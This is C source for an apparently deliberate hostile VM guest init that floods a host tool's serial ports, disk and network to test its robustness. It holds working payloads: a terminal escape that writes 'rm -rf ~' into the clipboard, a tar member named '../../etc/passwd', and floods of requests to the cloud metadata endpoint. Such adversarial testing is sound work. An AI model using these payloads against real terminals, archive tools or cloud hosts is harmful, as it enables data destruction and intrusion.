// A guest that attacks who boots it: an init that floods all four serial ports, the network and the disk at
// once, with what is long, never ends, drives terminals and lies about sizes. After some seconds it tells of
// itself, so that the proofs are made while it goes on.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/route.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#define SECONDS 25 /* of floods before it tells of itself */

static uint32_t state = 2463534242u;

static uint32_t number(void)
{
	state ^= state << 13;
	state ^= state >> 17;
	return state ^= state << 5;
}

static void fill(uint8_t *bytes, size_t size)
{
	for (size_t i = 0; i < size; i++)
		bytes[i] = (uint8_t)(number() >> 9);
}

static void put(int file, const void *bytes, size_t size)
{
	for (const char *at = bytes; size > 0;) {
		ssize_t wrote = write(file, at, size);
		if (wrote <= 0)
			return;
		at += wrote;
		size -= (size_t)wrote;
	}
}

static void say(int file, const char *text)
{
	put(file, text, strlen(text));
}

static int open_port(unsigned index)
{
	char path[32];
	struct termios raw;
	snprintf(path, sizeof(path), "/dev/ttyS%u", index);
	int port = open(path, O_RDWR | O_NOCTTY);
	if (port >= 0 && tcgetattr(port, &raw) == 0) {
		cfmakeraw(&raw);
		tcsetattr(port, TCSANOW, &raw);
	}
	return port;
}

static int load(const char *path, const struct stat *status, int kind, struct FTW *walk)
{
	(void)status;
	(void)walk;
	int file = kind == FTW_F && strstr(path, ".ko") ? open(path, O_RDONLY | O_CLOEXEC) : -1;
	if (file >= 0) {
		(void)syscall(SYS_finit_module, file, "", 0);
		close(file);
	}
	return 0;
}

/* What drives a terminal, lines without an end, one line again and again, the cursor's jumps, nothing at all.
 */
static void flood_console(void)
{
	static const char *const pieces[] = {
		"\x1b]52;c;cm0gLXJmIH4K\x07",
		"\x1b[6n",
		"\x1b[c",
		"\x1b]0;title\x1b\\",
		"\x1b[?1049h",
		"\x1b(0\x0e",
		"\rx",
		"\x1b[1023Cx\n",
		"\t\t\t\t\t\t\t\tx\r",
		"\x1bP$q\x1b\\",
		"\x1b[2J\x1b[H",
		("\xc2\x9b"
		 "31m"),
		"\x1b[8;1;1t",
		"\x1b[31m",
		"login:\b\b\b",
		"[    1.000000] x\n",
		"\x05\x07",
		"\xe2\x80\xae",
	};
	uint8_t bytes[512];
	int port = open_port(0);
	for (;;) {
		if (number() % 4 == 0) {
			fill(bytes, sizeof(bytes));
			put(port, bytes, sizeof(bytes));
		}
		for (unsigned i = number() % 64; i > 0; i--)
			say(port, pieces[number() % (sizeof(pieces) / sizeof(pieces[0]))]);
		usleep(1000);
	}
}

static void put_member(int port, const char *name, char type, const char *size)
{
	char header[512] = { 0 };
	unsigned sum = 0;
	snprintf(header, 100, "%s", name);
	snprintf(header + 100, 8, "0000644");
	snprintf(header + 124, 12, "%s", size);
	memset(header + 148, ' ', 8);
	header[156] = type;
	memcpy(header + 257, "ustar\00000", 8);
	for (size_t i = 0; i < sizeof(header); i++)
		sum += (unsigned char)header[i];
	snprintf(header + 148, 8, "%06o", sum);
	put(port, header, sizeof(header));
}

/* A tar with names that drive terminals, ways out, and a size that is not there. */
static void tell_of_itself(void)
{
	char zeros[1024] = { 0 };
	int port = open_port(1);
	for (unsigned second = 0; second < SECONDS; second++) {
		say(port, "slipway-inside-ready\nslipway-inside-port\n\x1b[6nslipway-inside-begin \n");
		sleep(1);
	}
	say(port, "slipway-inside-ready\n");
	sleep(2); /* it does not read what it is to do */
	char announced[64];
	snprintf(announced, sizeof(announced), "slipway-inside-begin %d\n", 6 * 512 + 1024);
	say(port, announced);
	put_member(port, "slipway/release", '0', "00000000000");
	put_member(port, "proc/sys/kernel/\x1b]0;t\x07\x1b[2J", '0', "00000000000");
	put_member(port, "../../etc/passwd", '0', "00000000000");
	put_member(port, "sys/class/net/eth0", '2', "00000000000");
	put_member(port, "proc/version", 'S', "00000000000");
	put_member(port, "proc/cmdline", '0', "77777777777");
	put(port, zeros, sizeof(zeros));
	say(port, "slipway-inside-end\n");
	for (;;)
		put(port, zeros, sizeof(zeros));
}

/* Lines without an end, and the mark that is waited for among them. */
static void flood_port(unsigned index)
{
	uint8_t bytes[256];
	int port = open_port(index);
	for (unsigned i = 0;; i++) {
		fill(bytes, sizeof(bytes));
		put(port, bytes, sizeof(bytes));
		if (i % 64 == 0)
			say(port, "\nslipway-inside-port\n");
		usleep(5000);
	}
}

static void flood_disk(void)
{
	uint8_t bytes[4096];
	int disk = open("/dev/sda", O_RDWR);
	for (;;) {
		fill(bytes, sizeof(bytes));
		(void)!pwrite(disk, bytes, sizeof(bytes), (off_t)(number() % 8192) * 4096);
		fsync(disk);
		usleep(2000);
	}
}

static struct sockaddr_in address_of(const char *text, uint16_t port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, text, &address.sin_addr);
	return address;
}

static void set_up_network(void)
{
	int handle = socket(AF_INET, SOCK_DGRAM, 0);
	struct ifreq change = { .ifr_name = "eth0" };
	struct sockaddr_in own = address_of("10.128.0.2", 0), mask = address_of("255.0.0.0", 0);
	memcpy(&change.ifr_addr, &own, sizeof(own));
	ioctl(handle, SIOCSIFADDR, &change);
	memcpy(&change.ifr_addr, &mask, sizeof(mask));
	ioctl(handle, SIOCSIFNETMASK, &change);
	change.ifr_flags = IFF_UP;
	ioctl(handle, SIOCSIFFLAGS, &change);
	struct rtentry route = { .rt_flags = RTF_UP, .rt_dev = (char[]){ "eth0" } };
	struct sockaddr_in all = address_of("0.0.0.0", 0);
	memcpy(&route.rt_dst, &all, sizeof(all));
	memcpy(&route.rt_genmask, &all, sizeof(all));
	ioctl(handle, SIOCADDRT, &route);
	close(handle);
}

/* Frames of any kind and length, some of them nearly right. */
static void flood_frames(void)
{
	uint8_t frame[1500];
	struct sockaddr_ll place = { .sll_family = AF_PACKET,
		                     .sll_halen = 6,
		                     .sll_ifindex = (int)if_nametoindex("eth0") };
	int handle = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	for (;;) {
		fill(frame, sizeof(frame));
		memset(frame, 0xff, 6);
		frame[12] = 8;
		frame[13] = number() % 2 ? 0 : 6;
		frame[14] = (uint8_t)(0x40 | number() % 16);
		frame[23] = number() % 2 ? 6 : 17;
		size_t size = 14 + number() % (sizeof(frame) - 14);
		(void)!sendto(handle, frame, size, 0, (struct sockaddr *)&place, sizeof(place));
		usleep(500);
	}
}

/* Datagrams to each server. */
static void flood_servers(void)
{
	static const uint16_t ports[] = { 67, 53, 123 };
	uint8_t bytes[600];
	int handle = socket(AF_INET, SOCK_DGRAM, 0);
	for (;;) {
		struct sockaddr_in to = address_of("169.254.169.254", ports[number() % 3]);
		fill(bytes, sizeof(bytes));
		bytes[0] = number() % 2 ? 1 : 0x23;
		(void)!sendto(handle, bytes, number() % sizeof(bytes), 0, (struct sockaddr *)&to, sizeof(to));
		usleep(1000);
	}
}

/* Connections without number; requests that never end, many at once, and nobody who reads the answers. */
static void flood_connections(void)
{
	static const char many[] =
		"GET /computeMetadata/v1/?recursive=true HTTP/1.1\r\nMetadata-Flavor: Google\r\n\r\n";
	static const char endless[] = "GET /\x1b[2J HTTP/1.1\r\nX: ";
	int open_ones[200];
	for (unsigned i = 0;; i++) {
		struct sockaddr_in to = address_of("169.254.169.254", 80);
		int *place = &open_ones[i % 200];
		if (i >= 200)
			close(*place);
		*place = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		connect(*place, (struct sockaddr *)&to, sizeof(to));
		usleep(20000);
		say(*place, i % 2 ? many : endless);
		for (unsigned n = 0; n < 200; n++)
			say(*place,
			    i % 2 ? many : "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
	}
}

static void start(void (*what)(void))
{
	if (fork() == 0) {
		state += (uint32_t)getpid() * 2654435761u;
		what();
		_exit(0);
	}
}

static void flood_second(void)
{
	flood_port(2);
}

static void flood_third(void)
{
	flood_port(3);
}

int main(void)
{
	mkdir("/dev", 0755);
	mount("dev", "/dev", "devtmpfs", 0, NULL);
	for (unsigned round = 0; round < 6; round++)
		nftw("/usr/lib/modules", load, 16, FTW_PHYS);
	sleep(1);
	set_up_network();
	static void (*const floods[])(void) = {
		flood_console, tell_of_itself, flood_second,  flood_third,
		flood_disk,    flood_frames,   flood_servers, flood_connections,
	};
	for (size_t i = 0; i < sizeof(floods) / sizeof(floods[0]); i++)
		start(floods[i]);
	for (;;)
		pause();
}
